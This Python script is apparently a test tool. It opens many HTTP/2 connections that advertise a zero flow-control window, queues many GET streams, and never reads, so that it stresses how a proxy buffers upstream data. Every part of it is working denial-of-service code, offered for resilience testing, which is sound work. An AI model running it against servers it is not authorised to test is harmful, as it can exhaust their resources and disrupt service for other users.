#!/usr/bin/env python3
"""An HTTP/2 client that never reads: a flow-control attack, for tests.

usage: h2_zero_window.py HOST PORT CONNS STREAMS PATH HOLD_S

Opens CONNS connections (h2c, prior knowledge), each announcing
SETTINGS_INITIAL_WINDOW_SIZE=0, and starts STREAMS GETs of PATH on each. It
never sends a WINDOW_UPDATE, so the proxy can send no DATA: whatever it reads
from the upstream for these streams it must hold or stop reading. The
connections stay open HOLD_S seconds, answering PINGs and SETTINGS (the h2
library does), then close. Prints "opened C streams=S headers=H" once every
stream is sent and again at the end with how many response heads arrived.
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    conns, streams, path, hold = int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
    socks = []
    heads = 0
    for _ in range(conns):
        s = socket.create_connection((host, port))
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
            h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000})
        c.initiate_connection()
        for i in range(streams):
            c.send_headers(1 + 2 * i, [(":method", "GET"), (":scheme", "http"),
                                        (":authority", "attack"), (":path", path)], end_stream=True)
        s.sendall(c.data_to_send())
        s.settimeout(0.05)
        socks.append((s, c))
    print("opened %d streams=%d" % (conns, streams), flush=True)
    end = time.time() + hold
    while time.time() < end:
        for s, c in socks:
            try:
                data = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                continue
            if not data:
                continue
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    heads += 1
            out = c.data_to_send()
            if out:
                s.sendall(out)
    print("done heads=%d" % heads, flush=True)
    for s, _ in socks:
        s.close()


if __name__ == "__main__":
    main()
